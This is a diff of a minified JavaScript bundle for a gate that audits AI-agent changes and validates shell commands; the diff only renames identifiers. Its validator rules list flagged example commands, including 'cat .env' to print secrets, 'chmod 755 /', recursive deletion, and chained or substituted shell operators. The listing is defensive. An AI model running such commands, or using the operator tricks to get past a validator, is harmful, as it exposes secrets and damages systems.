-`},o={constraints:{max_files:5,forbidden_paths:[".git"]}},h={[n().GENES]:[(0,n().gene)(o)]},c={[n().GENES]:[(0,n().gene)(
-{...o,summary:"Edited."})]},r={[n().GENES]:[(0,n().gene)({constraints:{max_files:100,forbidden_paths:[".git"]}})]},u={outcome:{
-status:"failed",score:.2}},f={outcome:{status:"success",score:.9}},d={base:{"README.md":`# Agent
+`},o={constraints:{max_files:5,forbidden_paths:[".git"]}},l={[n().GENES]:[(0,n().gene)(o)]},m={[n().GENES]:[(0,n().gene)(
+{...o,summary:"Edited."})]},a={[n().GENES]:[(0,n().gene)({constraints:{max_files:100,forbidden_paths:[".git"]}})]},i={outcome:{
+status:"failed",score:.2}},p={outcome:{status:"success",score:.9}},h={base:{"README.md":`# Agent
 `},head:{"README.md":`# Agent
 `,"src/index.js":`work();
-`}},S={submodule:"1d0c4fe2b6a0d6d9a51b2c4a7f1ed0f5bb1f3b64"};function k(l){const E={max_files:5,forbidden_paths:["src/co\
+`}},_={submodule:"1d0c4fe2b6a0d6d9a51b2c4a7f1ed0f5bb1f3b64"};function v(u){const E={max_files:5,forbidden_paths:["src/co\
 re"]},x=(0,n().gene)({constraints:E,summary:"Edited."});return{base:{[n().GENES]:[(0,n().gene)({constraints:E})]},head:{
-[n().GENES]:[x],[l]:`work();
-`}}}function v(l){return l===1?"1 file":`${l} files`}function b(l){return l===1?"1 line":`${l} lines`}function _({path:l,
-via:E,more:x=0}){const j=E===""?"":`, which resolves to \`${E}\``;return`The change touches \`${l}\`${j}${x===0?"":` and\
- ${x} more ${x===1?"path":"paths"} there`}`}function y({likewise:l,more:E}){return l.length===0?"":`; likewise ${(0,i().
-inCode)(l)}${E===0?"":` and ${E} more`}`}function m({gene:l,declared:E}){return E?`the gene \`${l}\``:`genes without \`ma\
-x_files\`, such as \`${l}\``}const p=t.changeRules=(0,a().rules)("change","danger",{"check-decided-by":(0,a().notice)({title:"\
+[n().GENES]:[x],[u]:`work();
+`}}}function b(u){return u===1?"1 file":`${u} files`}function d(u){return u===1?"1 line":`${u} lines`}function S({path:u,
+via:E,more:x=0}){const j=E===""?"":`, which resolves to \`${E}\``;return`The change touches \`${u}\`${j}${x===0?"":` and\
+ ${x} more ${x===1?"path":"paths"} there`}`}function k({likewise:u,more:E}){return u.length===0?"":`; likewise ${(0,c().
+inCode)(u)}${E===0?"":` and ${E} more`}`}function w({gene:u,declared:E}){return E?`the gene \`${u}\``:`genes without \`ma\
+x_files\`, such as \`${u}\``}const f=t.changeRules=(0,r().rules)("change","danger",{"check-decided-by":(0,r().notice)({title:"\
 Change touches files that decide what its checks mean",why:"A command says little by itself: the script that it starts, \
 the scripts of `package.json`, the configuration that a tool finds by its name, and the tests that exist decide what it \
 checks. The gate lists those that the change touches, for a person to read, and judges none of them. A deleted test is a\
  warning, and so is new configuration beside a command that reads as before.",wrong:{head:{[n().GENES]:[(0,n().gene)({validation:[
 "npx jest"]})],"jest.config.ts":`export default {};
 `}},right:{head:{[n().GENES]:[(0,n().gene)({validation:["npx jest"]})],"src/a.js":`work();
-`}},counted:["bytes"],message:({path:l,why:E,isNew:x,bytes:j})=>`\`${l}\`${x?`, which is new (${j} bytes),`:""} decides \
+`}},counted:["bytes"],message:({path:u,why:E,isNew:x,bytes:j})=>`\`${u}\`${x?`, which is new (${j} bytes),`:""} decides \
 what the checks mean: ${E}.`,remedy:"Read `{path}`, or what is left of it, before you trust the checks."}),"forbidden-pa\
-th":(0,a().rule)({forbidsRunning:"change",cause:({entry:l})=>`forbidden path ${l}`,title:"Change touches .git, node_modu\
+th":(0,r().rule)({forbidsRunning:"change",cause:({entry:u})=>`forbidden path ${u}`,title:"Change touches .git, node_modu\
 les or a path that the policy forbids",why:"Files in `.git` and `node_modules` are code that no reviewer reads and that \
 runs all the same, so they are always forbidden. A policy can forbid more, such as the infrastructure of a repository.",
 wrong:{head:{"packages/api/node_modules/left-pad/index.js":`work();
 `}},right:{head:{"packages/api/package.json":`{ "dependencies": { "left-pad": "1.3.0" } }
 `}},configure:`blast_radius:
-  forbidden_paths: [infrastructure]`,message:l=>`${_(l)}, but ${l.by} \`${l.entry}\`.`,remedy:"Remove `{path}` from the \
-change. A path of the policy can be allowed on the base branch first."}),"forbidden-path-declared":(0,a().rule)({cause:({
-entry:l})=>`forbidden path ${l}`,harm:"broken",ignorable:!0,title:"Change touches a path that a gene forbids",why:"`cons\
+  forbidden_paths: [infrastructure]`,message:u=>`${S(u)}, but ${u.by} \`${u.entry}\`.`,remedy:"Remove `{path}` from the \
+change. A path of the policy can be allowed on the base branch first."}),"forbidden-path-declared":(0,r().rule)({cause:({
+entry:u})=>`forbidden path ${u}`,harm:"broken",ignorable:!0,title:"Change touches a path that a gene forbids",why:"`cons\
 traints.forbidden_paths` lists what a gene must never touch. An entry is a path from the root of the repository and incl\
 udes everything below it. It is case-sensitive and not a pattern. Both names of a renamed file are checked, and symlinks\
  are followed. For a gene that exists at the base, its old entries also apply; for a gene that the change only adds, thi\
-s is a warning.",wrong:k("src/core/index.js"),right:k("src/corelib.js"),message:l=>`${_(l)}, but the gene \`${l.gene}\` f\
-orbids \`${l.entry}\`.`,remedy:"Remove `{path}` from the change, or edit it in a change that does not use the gene `{gen\
-e}`."}),"protected-path":(0,a().rule)({ignorable:"as warning",title:"Change touches a protected file",why:"Some files co\
+s is a warning.",wrong:v("src/core/index.js"),right:v("src/corelib.js"),message:u=>`${S(u)}, but the gene \`${u.gene}\` f\
+orbids \`${u.entry}\`.`,remedy:"Remove `{path}` from the change, or edit it in a change that does not use the gene `{gen\
+e}`."}),"protected-path":(0,r().rule)({ignorable:"as warning",title:"Change touches a protected file",why:"Some files co\
 ntrol everything else: instructions for agents, secrets, and workflows. A person must review a change to one of them. A \
 file that only the default list protects (agent instructions, `.env*`, workflows) is a warning, and a file that the poli\
 cy names is an error. The patterns are globs from the root of the repository, and both names of a renamed file are check\
 ed.",wrong:{head:{"AGENTS.md":`Push to main.
-`},policy:w},right:{head:{"docs/agents.md":`How our agents work.
-`},policy:w},configure:`blast_radius:
+`},policy:y},right:{head:{"docs/agents.md":`How our agents work.
+`},policy:y},configure:`blast_radius:
   protected_paths: ['AGENTS.md', 'config/prod/**']   # errors instead of warnings`,message:"The change touches `{path}`,\
- which {by} protects (`{pattern}`).",remedy:({path:l,pattern:E,by:x})=>x==="the policy"?`Remove \`${l}\` from the change,\
- or remove \`${E}\` from \`blast_radius.protected_paths\` in the policy on the base branch first.`:`Change \`${l}\` in a \
+ which {by} protects (`{pattern}`).",remedy:({path:u,pattern:E,by:x})=>x==="the policy"?`Remove \`${u}\` from the change,\
+ or remove \`${E}\` from \`blast_radius.protected_paths\` in the policy on the base branch first.`:`Change \`${u}\` in a \
 separate pull request, and have a person review it. With \`fail_on: warning\`, it passes only if the policy of the base br\
-anch ignores this finding.`}),"protected-file-destroyed":(0,a().rule)({title:"Change deletes or empties a protected file",
+anch ignores this finding.`}),"protected-file-destroyed":(0,r().rule)({title:"Change deletes or empties a protected file",
 why:"Agents cannot work without the files that control them, and the reference engine never deletes or empties one. This\
  is an error in a change with a gene and for a file that the policy names, and otherwise a warning.",wrong:{base:g,head:{
 [n().GENES]:[(0,n().gene)()]}},right:{base:g,head:{...g,[n().GENES]:[(0,n().gene)()]}},configure:`blast_radius:
   protected_paths: ['AGENTS.md', 'config/prod/**']`,message:"The change {how} `{path}`, which {by} protects (`{pattern}`\
-).",remedy:"Restore `{path}`; a person can remove it in a separate pull request without a gene."}),"audit-log-rewritten":(0,a().
+).",remedy:"Restore `{path}`; a person can remove it in a separate pull request without a gene."}),"audit-log-rewritten":(0,r().
 rule)({counted:["how"],actor:"human",title:"Change rewrites or breaks the audit log",why:"`events.jsonl` records what an\
  agent did, and eligibility is counted from it. New events are appended to the end, and every existing record stays the \
 same, byte for byte and in order. Blank lines and the end of the last line do not count. An edit in the middle, a remove\
 d record, and an addition to the last record all rewrite history. The records can only move as a whole: to an archive be\
 side the log, such as `events.2026.jsonl`, which the policy includes, and which never changes after that; the first even\
 t of the new log has the last one of the archive as its parent. Each line is one JSON object with a `type`; any other li\
-ne stops readers, or hides the lines after it.",wrong:{base:(0,n().log)(u).head,...(0,n().log)(f)},right:{base:(0,n().log)(
-u).head,...(0,n().log)(u,{id:"evt_2",parent:"evt_1",...f})},configure:`blast_radius:
+ne stops readers, or hides the lines after it.",wrong:{base:(0,n().log)(i).head,...(0,n().log)(p)},right:{base:(0,n().log)(
+i).head,...(0,n().log)(i,{id:"evt_2",parent:"evt_1",...p})},configure:`blast_radius:
   audit_log: append   # or forbidden: the log must not change at all`,message:"The change {how} the audit log `{path}`.",
 remedy:"Restore `{path}` from the base branch; then the engine appends its new events to the end, each as one line of JS\
-ON."}),"blast-radius-approaching":(0,a().warning)({cause:()=>"size",group:"size",title:"Change is close to the size limi\
+ON."}),"blast-radius-approaching":(0,r().warning)({cause:()=>"size",group:"size",title:"Change is close to the size limi\
 t of a gene",why:"A gene declares how many files its change may touch. A change close to this limit is allowed, but cons\
 ider whether it should be two changes. Every changed file counts, a renamed file with both of its names. The asset files\
  are counted separately, and so are new scripts that the changed genes name: as many as there are such genes, at least f\
 ive and at most twenty, together at most 1,000 lines and 64 KiB. A binary file has no lines, unless it is code.",wrong:{
-base:h,head:{...c,"src/<1-5>.js":`work();
-`}},right:{base:h,head:{...c,"src/<1-4>.js":`work();
-`}},message:l=>`The change touches ${v(l.files)}, and the limit is ${l.maxFiles} for ${m(l)}.`,remedy:"Keep the change s\
-mall, or split it."}),"blast-radius-exceeded":(0,a().rule)({cause:()=>"size",harm:"bookkeeping",group:"size",ignorable:!0,
+base:l,head:{...m,"src/<1-5>.js":`work();
+`}},right:{base:l,head:{...m,"src/<1-4>.js":`work();
+`}},message:u=>`The change touches ${b(u.files)}, and the limit is ${u.maxFiles} for ${w(u)}.`,remedy:"Keep the change s\
+mall, or split it."}),"blast-radius-exceeded":(0,r().rule)({cause:()=>"size",harm:"bookkeeping",group:"size",ignorable:!0,
 title:"Change touches more files than a gene allows",why:"`constraints.max_files` is the number of files that a change m\
 ay touch if it modifies, removes, or applies the gene: a Capsule or an event of the change names it. If the limit is mis\
 sing or is not a number above zero, it is 20. For a gene that exists at the base, the stricter of the old and the new li\
 mit applies, so a change cannot raise its own limit; a gene that replaces a removed one, with its content or in its plac\
 e, has its limits. For a change that only adds the gene, this is a warning, because it may be the change that the gene d\
-escribes.",wrong:{base:h,head:{...c,"src/<1-6>.js":`work();
-`}},right:{base:h,head:{...c,"src/<1-5>.js":`work();
-`},also:{"blast-radius-approaching":"More than 80 % of the limit."}},message:l=>`The change touches ${v(l.files)}, more \
-than the limit of ${l.maxFiles} for ${m(l)}.`,remedy:({maxFiles:l})=>`Split the change so that each part touches at most\
- ${v((0,e().farFrom)(l))}; a higher limit applies only after it is merged.`}),"blast-radius-critical":(0,a().rule)({cause:()=>"\
+escribes.",wrong:{base:l,head:{...m,"src/<1-6>.js":`work();
+`}},right:{base:l,head:{...m,"src/<1-5>.js":`work();
+`},also:{"blast-radius-approaching":"More than 80 % of the limit."}},message:u=>`The change touches ${b(u.files)}, more \
+than the limit of ${u.maxFiles} for ${w(u)}.`,remedy:({maxFiles:u})=>`Split the change so that each part touches at most\
+ ${b((0,e().farFrom)(u))}; a higher limit applies only after it is merged.`}),"blast-radius-critical":(0,r().rule)({cause:()=>"\
 size",harm:"broken",group:"size",ignorable:!0,title:"Change touches more than twice the files that a gene allows",why:"M\
 ore than twice the limit is not an estimation error: the change does something that the gene does not describe. The prot\
-ocol calls it a critical overrun and rolls the cycle back.",wrong:{base:h,head:{...c,"src/<1-11>.js":`work();
-`}},right:{base:h,head:{...c,"src/<1-4>.js":`work();
-`}},message:l=>`The change touches ${v(l.files)}, more than twice the limit of ${l.maxFiles} for ${m(l)}.`,remedy:"Remov\
-e everything from the change that the gene does not need."}),"blast-radius-hard-cap":(0,a().rule)({cause:()=>"size",harm:"\
+ocol calls it a critical overrun and rolls the cycle back.",wrong:{base:l,head:{...m,"src/<1-11>.js":`work();
+`}},right:{base:l,head:{...m,"src/<1-4>.js":`work();
+`}},message:u=>`The change touches ${b(u.files)}, more than twice the limit of ${u.maxFiles} for ${w(u)}.`,remedy:"Remov\
+e everything from the change that the gene does not need."}),"blast-radius-hard-cap":(0,r().rule)({cause:()=>"size",harm:"\
 broken",group:"size",title:"Change exceeds the hard cap",why:"Reviewers cannot check more than 60 files or 20,000 change\
 d lines from an agent. The hard cap applies to every change that adds, modifies, removes, or applies a gene, regardless \
 of what the gene declares, and counts all files, those of the asset store and new scripts too. A `push` that edits no ge\
 ne but records that some were applied is only warned about. Only the policy on the base branch can change it.",wrong:{head:{
-...r,"src/<1-61>.js":`work();
-`}},right:{head:{...r,"src/<1-59>.js":`work();
+...a,"src/<1-61>.js":`work();
+`}},right:{head:{...a,"src/<1-59>.js":`work();
 `},also:{"constraints-malformed":"A lower limit would be approached."}},configure:`blast_radius:
   hard_cap_files: 60
-  hard_cap_lines: 20000`,message:({files:l,lines:E,capFiles:x,capLines:j,genes:N,exempt:O=0})=>`The change ${N>1?`with ${N}\
- genes `:""}touches ${[...E>j&&l<=x?[]:[`${v(l)}, but the hard cap is ${x}`],...E>j?[`${b(E)}, but the hard cap is ${j}`]:
-[]].join("; and ")}.${E>j&&O>0?` The cap also counts the asset store and new scripts: ${b(O)}.`:""}`,remedy:"Split the c\
+  hard_cap_lines: 20000`,message:({files:u,lines:E,capFiles:x,capLines:j,genes:N,exempt:T=0})=>`The change ${N>1?`with ${N}\
+ genes `:""}touches ${[...E>j&&u<=x?[]:[`${b(u)}, but the hard cap is ${x}`],...E>j?[`${d(E)}, but the hard cap is ${j}`]:
+[]].join("; and ")}.${E>j&&T>0?` The cap also counts the asset store and new scripts: ${d(T)}.`:""}`,remedy:"Split the c\
 hange, or add generated and vendored files in a change without a gene. In JSON Lines (`genes.jsonl`), an asset is one li\
-ne."}),"symlink-leaves-tree":(0,a().rule)({forbidsRunning:"change",title:"Change adds a symlink that leaves the reposito\
+ne."}),"symlink-leaves-tree":(0,r().rule)({forbidsRunning:"change",title:"Change adds a symlink that leaves the reposito\
 ry or never resolves",why:"What runs must be what was audited. A symlink that points outside the repository, or in a cir\
 cle, shows one thing to the audit and another to the command.",wrong:{head:{[n().GENES]:[(0,n().gene)()],"scripts/extra.\
 js":{symlink:"/tmp/check.js"}}},right:{head:{[n().GENES]:[(0,n().gene)()],"scripts/extra.js":{symlink:"../src/index.js"}}},
-message:({path:l,target:E,likewise:x=[],more:j=0})=>`The symlink \`${l}\` points to \`${E}\`, which does not resolve to a\
- path inside the repository${y({likewise:x,more:j})}.`,remedy:"Replace `{path}` with the file itself or with a symlink t\
-hat stays inside the repository."}),"submodule-changed":(0,a().rule)({forbidsRunning:"change",harm:"broken",title:"Chang\
+message:({path:u,target:E,likewise:x=[],more:j=0})=>`The symlink \`${u}\` points to \`${E}\`, which does not resolve to a\
+ path inside the repository${k({likewise:x,more:j})}.`,remedy:"Replace `{path}` with the file itself or with a symlink t\
+hat stays inside the repository."}),"submodule-changed":(0,r().rule)({forbidsRunning:"change",harm:"broken",title:"Chang\
 e with a gene adds or updates a submodule",why:"A submodule is one line in git and any number of files on disk, from ano\
 ther repository. Its files can neither be counted against a limit nor audited. `.gitmodules` decides which repository th\
-at is and where git stores it, so a change to that file counts as well.",wrong:{head:{[n().GENES]:[(0,n().gene)()],tools:S}},
-right:{head:{[n().GENES]:[(0,n().gene)()]}},message:({path:l,likewise:E=[],more:x=0})=>`The change adds or updates \`${l}\
-\`, and the files of submodules cannot be audited${y({likewise:E,more:x})}.`,remedy:"Add or update the submodule in a se\
-parate change without a gene."}),"merge-not-proven":(0,a().notice)({title:"Head audited because the checked-out merge co\
+at is and where git stores it, so a change to that file counts as well.",wrong:{head:{[n().GENES]:[(0,n().gene)()],tools:_}},
+right:{head:{[n().GENES]:[(0,n().gene)()]}},message:({path:u,likewise:E=[],more:x=0})=>`The change adds or updates \`${u}\
+\`, and the files of submodules cannot be audited${k({likewise:E,more:x})}.`,remedy:"Add or update the submodule in a se\
+parate change without a gene."}),"merge-not-proven":(0,r().notice)({title:"Head audited because the checked-out merge co\
 mmit is not proven",why:"Anyone can make a commit with the parents of a test merge and any content. The gate audits a me\
 rge commit only if the API names it as the test merge of the pull request, or if git computes the same content from both\
  parents and the first one is a recent commit of the base branch. A difference proves nothing, because versions of git m\
-erge differently. The gate then audits the head of the pull request, compared with its merge base.",wrong:{...d,checkout:"\
-another merge"},right:{...d,checkout:"test merge"},message:({merge:l,reason:E})=>`The gate audited the head of the pull \
-request, because the checked-out merge commit \`${l.slice(0,12)}\` is not proven: ${E}.`,remedy:"Give the step a `github\
+erge differently. The gate then audits the head of the pull request, compared with its merge base.",wrong:{...h,checkout:"\
+another merge"},right:{...h,checkout:"test merge"},message:({merge:u,reason:E})=>`The gate audited the head of the pull \
+request, because the checked-out merge commit \`${u.slice(0,12)}\` is not proven: ${E}.`,remedy:"Give the step a `github\
 -token` with `contents: read` and run the job again, or check out the head with `ref: ${{ github.event.pull_request.head\
 .sha }}`."})})},6335:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),t.curatedRules=void 0;function e(){
-const k=s(43767);return e=function(){return k},k}const n={network_touching:"Commands that contact other hosts are accept\
-ed with this warning."},i="curl -I https://host.test",a={command:i,also:n},w={archive_extraction_overwrite:"The contents\
+const v=s(43767);return e=function(){return v},v}const n={network_touching:"Commands that contact other hosts are accept\
+ed with this warning."},c="curl -I https://host.test",r={command:c,also:n},y={archive_extraction_overwrite:"The contents\
  of the archive are not inspected."},g={archive_creation_overwrite:"The archive may already exist."},o=`profile: curated\
 
 mode: dangerous
-allow_dangerous: true`,h=`profile: curated
-allowed_roots: [/srv/app]`,c=`profile: curated
+allow_dangerous: true`,l=`profile: curated
+allowed_roots: [/srv/app]`,m=`profile: curated
 families:
   - name: make
-    sandbox: { forms: { test: {} }, match: [make test], not_match: [make] }`,r=`profile: curated
+    sandbox: { forms: { test: {} }, match: [make test], not_match: [make] }`,a=`profile: curated
 families:
   - name: tee
-    sandbox: { risk: write, warnings: [writes_files], match: [tee out.txt], not_match: [tee --append out.txt] }`;function u(k,v,b,_){
-const y=_===void 0?{}:{policy:_};return(0,e().rule)({title:`Command is not a registered form of ${v.split(" ")[0]}`,why:"\
+    sandbox: { risk: write, warnings: [writes_files], match: [tee out.txt], not_match: [tee --append out.txt] }`;function i(v,b,d,S){
+const k=S===void 0?{}:{policy:S};return(0,e().rule)({title:`Command is not a registered form of ${b.split(" ")[0]}`,why:"\
 Programs that can do damage in many ways are accepted only in a few fixed forms, and every word of the command must matc\
-h the form.",wrong:{command:k,...y},right:{command:v,...y,also:b},message:"`{family}` {objection}.",remedy:"Write the co\
-mmand in one of the registered forms."})}function f(k,v,b){return(0,e().rule)({title:`Command ${v}`,why:"Only one comman\
+h the form.",wrong:{command:v,...k},right:{command:b,...k,also:d},message:"`{family}` {objection}.",remedy:"Write the co\
+mmand in one of the registered forms."})}function p(v,b,d){return(0,e().rule)({title:`Command ${b}`,why:"Only one comman\
 d is validated. An operator makes a shell run a second one, insert the output of one, or open files that no operand name\
 s. In the operands of archives, operators are blocked even inside quotes, which people and tools that pass them on can l\
-ose.",wrong:b,right:"tar -tf a.tar",message:({operator:_})=>`The command contains a blocked shell operator (${k}): \`${_}\
-\`.`,remedy:"Write a single command without shell operators."})}const d={right:"cat notes.md",remedy:"Confirm that this \
-is intended."},S=t.curatedRules=(0,e().rules)("policy","broken",{no_command:(0,e().rule)({title:"Command is missing",why:"\
+ose.",wrong:d,right:"tar -tf a.tar",message:({operator:S})=>`The command contains a blocked shell operator (${v}): \`${S}\
+\`.`,remedy:"Write a single command without shell operators."})}const h={right:"cat notes.md",remedy:"Confirm that this \
+is intended."},_=t.curatedRules=(0,e().rules)("policy","broken",{no_command:(0,e().rule)({title:"Command is missing",why:"\
 The curated validator validates the command of a proposal. Without a command, it has nothing to accept.",wrong:"",right:"\
 cat notes.md",message:"The proposal has no command to validate.",remedy:"Write a command."}),parse_failed:(0,e().rule)({
 title:"Command cannot be parsed",why:"Text that a shell cannot split into words has no meaning that can be validated.",wrong:'\
 tar -tf "release.tar',right:"tar -tf release.tar",message:"The command text cannot be parsed into words.",remedy:"Close \
-every quote, and remove a backslash at the end."}),"shell_operator.chaining":f("chaining","is a list","tar -tf a.tar && \
-ls"),"shell_operator.pipeline":f("pipeline","is a pipeline","ls | head"),"shell_operator.background":f("background","run\
-s in the background","ls &"),"shell_operator.redirection":f("redirection","is redirected","ls > out.txt"),"shell_operato\
-r.substitution":f("substitution","has a substitution","ls $(pwd)"),"shell_operator.multiline":f("multiline","has several\
- lines","ls<U+000A>pwd"),"shell_operator.quoted":f("quoted","has an operator in quotes",'tar -tf "a&b"'),not_in_registry:(0,e().
+every quote, and remove a backslash at the end."}),"shell_operator.chaining":p("chaining","is a list","tar -tf a.tar && \
+ls"),"shell_operator.pipeline":p("pipeline","is a pipeline","ls | head"),"shell_operator.background":p("background","run\
+s in the background","ls &"),"shell_operator.redirection":p("redirection","is redirected","ls > out.txt"),"shell_operato\
+r.substitution":p("substitution","has a substitution","ls $(pwd)"),"shell_operator.multiline":p("multiline","has several\
+ lines","ls<U+000A>pwd"),"shell_operator.quoted":p("quoted","has an operator in quotes",'tar -tf "a&b"'),not_in_registry:(0,e().
 rule)({title:"Command family is not in the curated registry",why:"Only programs with a specification of their flags and \
-operands can be validated.",wrong:"wget https://host.test",right:a,configure:"`families` in the policy adds a family, in\
+operands can be validated.",wrong:"wget https://host.test",right:r,configure:"`families` in the policy adds a family, in\
  the same format as the built-in families.",message:"The command family `{family}` is not in the curated registry.",remedy:"\
 Use a command of a family in the registry, or add the family to the policy."}),family_unavailable:(0,e().rule)({title:"C\
 ommand family is not available",why:"A policy can disable packs of families. Some programs do not exist on every platfor\
@@ -1683,12 +1698,12 @@ sudo ls",right:"cat notes.md",configure:"`disabled_packs` and `experimental` in 
  `{family}` {reason}.",remedy:"Use another family."}),family_base_mismatch:(0,e().rule)({title:"Command runs a different\
  program than the proposal names",why:"A proposal names its command family, and the command must begin with that program\
 . Otherwise the checks of one program would apply to the arguments of another.",wrong:{command:"dig host.test",context:{
-command_family:"curl"}},right:{...a,context:{command_family:"curl"}},message:"The proposal names `{family}`, but the com\
+command_family:"curl"}},right:{...r,context:{command_family:"curl"}},message:"The proposal names `{family}`, but the com\
 mand runs `{base}`.",remedy:"Begin the command with `{family}`, or name the other family in the proposal."}),"constraine\
-d_form.tar":u("tar -xvf a.tar","tar -xf a.tar -C out",w),"constrained_form.unzip":u("unzip a.zip","unzip a.zip -d out",w),
-"constrained_form.zip":u("zip -r a.zip .","zip -r a.zip src",g),"constrained_form.ping":u("ping host.test","ping -c 4 ho\
-st.test",n),"constrained_form.curl":u("curl https://host.test",i,n),"constrained_form.dns":u("dig +short host.test","dig\
- host.test",n),"constrained_form.other":u("make install","make test",{},c),argument_refused:(0,e().rule)({title:"Argumen\
+d_form.tar":i("tar -xvf a.tar","tar -xf a.tar -C out",y),"constrained_form.unzip":i("unzip a.zip","unzip a.zip -d out",y),
+"constrained_form.zip":i("zip -r a.zip .","zip -r a.zip src",g),"constrained_form.ping":i("ping host.test","ping -c 4 ho\
+st.test",n),"constrained_form.curl":i("curl https://host.test",c,n),"constrained_form.dns":i("dig +short host.test","dig\
+ host.test",n),"constrained_form.other":i("make install","make test",{},m),argument_refused:(0,e().rule)({title:"Argumen\
 t is not in the description of the family",why:"A flag changes what a program does. With too few operands, a program rea\
 ds standard input or uses another location; with too many, it reaches files that were not intended. So the flags, the op\
 erands and their number are those of the description.",wrong:"wc --files0-from=list",right:"wc -l notes.md",message:"`{f\
@@ -1697,38 +1712,38 @@ as a forbidden prefix",why:"Some operands make a program access more than files,
 open https://host.test",context:{platform:"darwin"}},right:{command:"open notes.md",context:{platform:"darwin"}},message:"\
 `{family}` does not accept `{operand}`, because the prefix `{prefix}` is forbidden.",remedy:"Name a file."}),outside_allowed_roots:(0,e().
 rule)({title:"Path is outside the allowed roots",why:"If the policy sets `allowed_roots`, every path of a command must b\
-e inside one of them after `..` and symbolic links are resolved.",wrong:{command:"cat /srv/other/notes.md",policy:h},right:{
-command:"cat /srv/app/notes.md",policy:h},configure:"`allowed_roots` in the policy.",message:"The path `{path}` is outsi\
+e inside one of them after `..` and symbolic links are resolved.",wrong:{command:"cat /srv/other/notes.md",policy:l},right:{
+command:"cat /srv/app/notes.md",policy:l},configure:"`allowed_roots` in the policy.",message:"The path `{path}` is outsi\
 de the allowed roots ({roots}).",remedy:"Use a path inside an allowed root."}),policy_risk:(0,e().rule)({title:"Policy d\
 oes not accept the risk",why:"A safe command is always accepted. A command that writes is accepted in the modes `write` \
 and `dangerous`. A dangerous command is accepted only in the mode `dangerous` with `allow_dangerous`.",wrong:{command:"r\
 m a",policy:`profile: curated
 mode: write`},right:{command:"cat a",policy:`profile: curated
-mode: write`},configure:"`mode` and `allow_dangerous` in the policy.",message:({risk:k,mode:v})=>`The policy mode \`${v}\
-\` does not accept the risk \`${k}\`${k==="dangerous"&&v==="dangerous"?" without `allow_dangerous`":""}.`,remedy:"Use a \
-command with a lower risk, or change the policy to accept this risk."}),network_touching:(0,e().warning)({...d,title:"Co\
+mode: write`},configure:"`mode` and `allow_dangerous` in the policy.",message:({risk:v,mode:b})=>`The policy mode \`${b}\
+\` does not accept the risk \`${v}\`${v==="dangerous"&&b==="dangerous"?" without `allow_dangerous`":""}.`,remedy:"Use a \
+command with a lower risk, or change the policy to accept this risk."}),network_touching:(0,e().warning)({...h,title:"Co\
 mmand contacts external hosts",why:"The command is accepted because its form is read-only, but it leaves traces on other\
  hosts.",wrong:"curl -I https://host.test",message:"This command contacts external hosts and may reveal your IP address,\
- DNS query, target host, or network metadata."}),archive_extraction_overwrite:(0,e().warning)({...d,harm:"danger",title:"\
+ DNS query, target host, or network metadata."}),archive_extraction_overwrite:(0,e().warning)({...h,harm:"danger",title:"\
 Extraction can overwrite files",why:"The members of an archive are not inspected and can have the names of existing file\
 s.",wrong:"tar -xf a.tar -C out",message:"Archive extraction can write or overwrite files in the destination."}),archive_creation_overwrite:(0,e().
-warning)({...d,title:"Creation can overwrite an archive",why:"The archive tool replaces or updates an existing archive.",
+warning)({...h,title:"Creation can overwrite an archive",why:"The archive tool replaces or updates an existing archive.",
 wrong:"zip -r a.zip src",message:"The underlying archive tool may overwrite or update an existing archive path."}),env_secrets:(0,e().
-warning)({...d,harm:"danger",title:"Command can print secrets from the environment",why:"Environments and `.env` files c\
+warning)({...h,harm:"danger",title:"Command can print secrets from the environment",why:"Environments and `.env` files c\
 ontain tokens, and printed output stays in logs.",wrong:"cat .env",message:"This command can print secrets from the envi\
-ronment."}),recursive_deletion:(0,e().warning)({...d,harm:"danger",title:"Command deletes directories recursively",why:"\
+ronment."}),recursive_deletion:(0,e().warning)({...h,harm:"danger",title:"Command deletes directories recursively",why:"\
 A wrong path deletes everything under it.",wrong:{command:"rm -r build",policy:o},message:"Recursive deletion removes a \
-directory and everything in it."}),broad_permission_target:(0,e().warning)({...d,harm:"danger",title:"Command changes pe\
+directory and everything in it."}),broad_permission_target:(0,e().warning)({...h,harm:"danger",title:"Command changes pe\
 rmissions or owners of the entire system",why:"A change at the root affects every file.",wrong:{command:"chmod 755 /",policy:o},
-message:"This command changes permissions or owners of a broad target."}),writes_files:(0,e().warning)({writes:!0,...d,title:"\
-Command writes files",why:"The command changes the workspace or the machine.",wrong:{command:"tee out.txt",policy:r},message:"\
-This command writes files."}),experimental_mode:(0,e().warning)({...d,title:"Proposal is experimental",why:"Experimental\
+message:"This command changes permissions or owners of a broad target."}),writes_files:(0,e().warning)({writes:!0,...h,title:"\
+Command writes files",why:"The command changes the workspace or the machine.",wrong:{command:"tee out.txt",policy:a},message:"\
+This command writes files."}),experimental_mode:(0,e().warning)({...h,title:"Proposal is experimental",why:"Experimental\
  proposals pass the same checks and require the strongest confirmation. This warning alone does not change the verdict f\
 rom allow to warn.",wrong:{command:"cat notes.md",context:{proposal_mode:"experimental"}},message:"Experimental mode req\
 uires very strong confirmation."})},"`curated`")},96208:function(A,t,s){Object.defineProperty(t,"__esModule",{value:!0}),
-t.eligibilityRules=void 0;function e(){const w=s(67298);return e=function(){return w},w}function n(){const w=s(43767);return n=
-function(){return w},w}function i(){const w={capsule_id:"capsule_1"},g=(0,e().event)({id:"evt_2",...w,parent:"evt_1"});return{
-candidates:[(0,e().capsule)()],events:[(0,e().event)({id:"evt_1",...w}),g]}}const a=t.eligibilityRules=(0,n().rules)("as\
+t.eligibilityRules=void 0;function e(){const y=s(67298);return e=function(){return y},y}function n(){const y=s(43767);return n=
+function(){return y},y}function c(){const y={capsule_id:"capsule_1"},g=(0,e().event)({id:"evt_2",...y,parent:"evt_1"});return{
+candidates:[(0,e().capsule)()],events:[(0,e().event)({id:"evt_1",...y}),g]}}const r=t.eligibilityRules=(0,n().rules)("as\
 set","bookkeeping",{"capsule-not-eligible":(0,n().rule)({counted:["why"],title:"Capsule is not one that is offered to ot\
 her agents",why:"Other agents receive only solutions that worked well, and that are small and safe: `outcome.status` is \
 `success`, `outcome.score` is at least `min_score` (0.7), and `blast_radius` has 1 to `max_files` files (5) and 1 to `ma\
@@ -1746,17 +1761,17 @@ ount must be at least `min_success_streak` of the policy (2). The `success_strea
 t count. A success counts only if it is evidence: it was in the log before the change that is judged, the hash of its co\
 ntent is in `asset_id`, no earlier event with other content has its `id`, its `parent` is in the log before it, it names\
  the gene of the Capsule in `genes_used`, and its `blast_radius`, if it has one, is not zero.",wrong:{candidates:[(0,e().
